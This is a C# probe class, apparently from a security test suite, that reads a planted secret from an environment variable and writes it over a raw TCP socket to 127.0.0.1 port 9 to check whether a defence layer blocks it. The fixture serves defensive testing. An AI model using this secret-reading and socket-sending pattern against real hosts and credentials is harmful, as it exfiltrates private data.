// Attack: Opens a raw TCP Socket to 127.0.0.1:9 and writes the planted secret to it.
// Expect: layer1
using PersonalApp.SecurityTests.Contracts;
namespace Attacks;

using System;
using System.Net;
using System.Net.Sockets;
using System.Text;

public sealed class SocketConnect : IProbe
{
    public string Run(ProbeInput input)
    {
        var secret = Environment.GetEnvironmentVariable("PERSONALAPP_PLANTED_SECRET") ?? input.Text;
        using var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
        try
        {
            socket.Connect(new IPEndPoint(IPAddress.Loopback, 9));
            socket.Send(Encoding.UTF8.GetBytes(secret));
            return "sent";
        }
        catch (SocketException e)
        {
            return "tried: " + e.SocketErrorCode;
        }
    }
}
